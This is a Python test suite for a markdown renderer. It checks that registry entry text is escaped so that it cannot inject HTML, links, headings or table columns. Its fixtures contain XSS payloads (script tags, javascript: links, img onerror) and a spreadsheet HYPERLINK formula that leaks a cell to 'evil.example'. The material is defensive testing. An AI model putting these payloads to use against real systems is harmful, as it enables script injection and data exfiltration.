"""render/markdown.py: entry text stays text in any CommonMark reader."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from build_fixture import HOSTILE_ID, check_golden, fixture_build, fixture_registry
from is3c.render import annex_file, list_file
from is3c.render import markdown as render_markdown
from is3c.render.markdown import link, text
from markdown_it import MarkdownIt
from markdown_it.token import Token

GOLDEN = [
    list_file("urgent", "md"),
    list_file("full", "md"),
    annex_file("email-service", "md"),
    annex_file("website", "md"),
    annex_file("software", "md"),
]
PARSER = MarkdownIt("commonmark").enable("table").enable("strikethrough")


def tokens(content: bytes) -> Iterator[Token]:
    for token in PARSER.parse(content.decode("utf-8")):
        yield token
        yield from token.children or []


@pytest.mark.parametrize("path", GOLDEN)
def test_golden(path: str) -> None:
    check_golden(f"markdown/{path.split('/')[-1]}", render_markdown.render(fixture_build())[path])


def test_golden_in_french() -> None:
    check_golden("markdown/fr/is3c-full-list.md",
                 render_markdown.render(fixture_build("fr"))[list_file("full", "md")])


@pytest.mark.parametrize("value,expected", [
    ("a | b", r"a \| b"),
    ("<script>x</script>", r"\<script\>x\</script\>"),
    ("[x](javascript:y)", r"\[x\](javascript:y)"),
    ("**b** _i_ `c` ~s~", r"\*\*b\*\* \_i\_ \`c\` \~s\~"),
    ("&amp; @user $x$ # h", r"\&amp; \@user \$x\$ \# h"),
    ("line\nbreak\r\n\n  next", "line break next"),
    ("# heading", r"\# heading"),
    ("- item", r"\- item"),
    ("+ item", r"\+ item"),
    ("= setext", r"\= setext"),
    ("> quote", r"\> quote"),
    ("12. item", r"12\. item"),
    ("3) item", r"3\) item"),
    ("see https://x.example or www.x.example", r"see https\://x.example or www\.x.example"),
    ("a-b 1.5 e.g. 10:30", "a-b 1.5 e.g. 10:30"),
    ("WwW.x.example HTTPS://x", r"WwW\.x.example HTTPS\://x"),
    ("awww.x 5www.x x:\\//y", r"awww.x 5www.x x:\\//y"),
    ("a\u00a0b\u2028c\x1cd\u3000 ", "a b c d"),
    ("", ""),
])
def test_text(value: str, expected: str) -> None:
    assert text(value) == expected


def test_the_shortcuts_in_text_agree_with_the_patterns_they_skip() -> None:
    """text() folds space with str.split() and only looks for autolinks where "://" or
    a case-blind "www." occurs; both rest on facts about every code point."""
    import re
    import sys

    space, w = re.compile(r"\s"), re.compile(r"(?i)w")
    characters = [chr(c) for c in range(sys.maxunicode + 1)]
    assert [c for c in characters if bool(space.fullmatch(c)) != c.isspace()] == []
    assert [c for c in characters if w.fullmatch(c)] == ["W", "w"]


@pytest.mark.parametrize("blocks", [
    [["# a", "", "b", ""], ["", "c", ""], ["", ""]],
    [[""], []],
    [],
    [["x" * 100] * 1000, ["", "y"], ["z", "", ""]],  # more than one piece
])
def test_pieces_join_lines_and_end_in_one_newline(blocks: list[list[str]]) -> None:
    lines = [line for block in blocks for line in block]
    expected = ("\n".join(lines).rstrip("\n") + "\n").encode()
    assert b"".join(render_markdown._pieces(iter(blocks))) == expected


def test_links_are_http_only_and_cannot_end_early() -> None:
    assert link("x", "javascript:alert(1)") == "x"
    assert link("x", "https://example.org/a b") == "x"
    assert link("x", "https://example.org/\n") == "x"
    assert link("x", "https://example.org/)](javascript:alert(2))") == (
        "[x](https://example.org/%29%5D%28javascript:alert%282%29%29)")
    # '<', '>' and '"' are refused in addresses at validation and again here.
    assert link("[a]", "https://example.org/<b>") == r"\[a\]"
    assert link("[a]", "https://example.org/(b)'c") == r"[\[a\]](https://example.org/%28b%29%27c)"


def allowed_links() -> set[str]:
    """Every link the Markdown may hold: addresses from the registry, percent-encoded."""
    from urllib.parse import quote

    urls: set[str] = set()
    for entry in fixture_registry().entries:
        urls |= {s.url for s in entry.specifications} | {entry.maintainer.url}
        urls |= {r.url for r in entry.recognition if r.url}
        urls |= {t.url for t in entry.verification.tools} if entry.verification else set()
    return {quote(u, safe="!#$&*+,/:;=?@~%-._") for u in urls}


@pytest.mark.parametrize("path", sorted(render_markdown.render(fixture_build())))
def test_no_html_no_images_and_only_registry_links(path: str) -> None:
    content = render_markdown.render(fixture_build())[path]
    allowed = allowed_links()
    for token in tokens(content):
        assert token.type not in ("html_block", "html_inline", "image", "code_inline",
                                  "code_block", "fence"), (path, token.content)
        if token.type == "link_open":
            href = str(token.attrs["href"])
            assert href.startswith("https://") and href in allowed, (path, href)


def test_hostile_text_makes_no_structure_of_its_own() -> None:
    content = render_markdown.render(fixture_build())[list_file("urgent", "md")]
    html = PARSER.render(content.decode("utf-8"))
    # Our own structure only: 1 title, the preamble and its 5 parts, 3 categories,
    # 3 entries, the compliance matrix.
    headings = [t for t in tokens(content) if t.type == "heading_open"]
    assert [h.tag for h in headings] == ["h1", "h2"] + ["h3"] * 5 + [
        "h2", "h3", "h2", "h3", "h2", "h3", "h2"]
    assert "<script" not in html and "<img" not in html and "<details" not in html
    assert "&lt;script&gt;alert('summary')&lt;/script&gt;" in html
    hrefs = [str(t.attrs["href"]) for t in tokens(content) if t.type == "link_open"]
    assert hrefs and all(h.startswith("https://") for h in hrefs)
    # Every table row has as many cells as its header: no pipe made a new column.
    rows: list[int] = []
    for token in tokens(content):
        if token.type == "tr_open":
            rows.append(0)
        elif token.type in ("th_open", "td_open"):
            rows[-1] += 1
    assert rows and set(rows) == {4, 8}  # category tables, the compliance matrix
    # Newlines in entry text were folded: the hostile '# not a heading' is inline text.
    assert "# not a heading" not in [line.strip() for line in html.splitlines()]


def test_annex_heads_requirements_with_their_ids_and_lists_the_rest() -> None:
    content = render_markdown.render(fixture_build())[annex_file("website", "md")].decode()
    heads = [line for line in content.splitlines() if line.startswith("## IS3C-")]
    assert heads == ["## IS3C-HOSTILE-TEXT: \\@SUM(1+1) \\<img src=x onerror=alert(\"short\")\\>: "
                     "\\=HYPERLINK(\"https\\://evil.example/?leak=\"\\&A1,\"Click me\") "
                     "\\<script\\>alert(\"title\")\\</script\\>",
                     "## IS3C-DNSSEC: DNSSEC: Domain Name System Security Extensions",
                     "## IS3C-TLS: TLS: Transport Layer Security"]
    assert "Requirement 1" not in content  # positions change between releases; ids do not
    assert "RFC 2119 and RFC 8174" in content and "burden of showing equivalence" in content
    matrix = content.split("## Compliance matrix")[1]
    assert [line.split(" | ")[0] for line in matrix.splitlines() if line.startswith("| IS3C-")] == [
        "| IS3C-HOSTILE-TEXT", "| IS3C-DNSSEC", "| IS3C-TLS"]
    assert "## Also applicable (no tender clause agreed yet)" in content
    assert f"{HOSTILE_ID}" not in content.split("## Also applicable")[1]
    empty = render_markdown.render(fixture_build())[annex_file("software", "md")].decode()
    assert "No accepted standard applies to this product type yet." in empty
